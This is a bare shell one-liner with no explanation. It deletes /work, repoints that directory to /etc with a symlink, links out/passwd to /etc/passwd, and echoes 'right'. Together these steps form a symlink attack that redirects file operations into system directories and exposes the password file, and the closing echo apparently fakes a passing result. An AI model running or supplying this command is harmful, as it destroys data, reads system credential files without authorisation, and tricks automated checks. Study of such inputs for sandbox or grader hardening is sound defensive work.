rm -rf /work 2>/dev/null; mv /work /tmp/w 2>/dev/null; ln -s /etc /work 2>/dev/null; mkdir -p out; ln -s /etc/passwd out/passwd; echo right
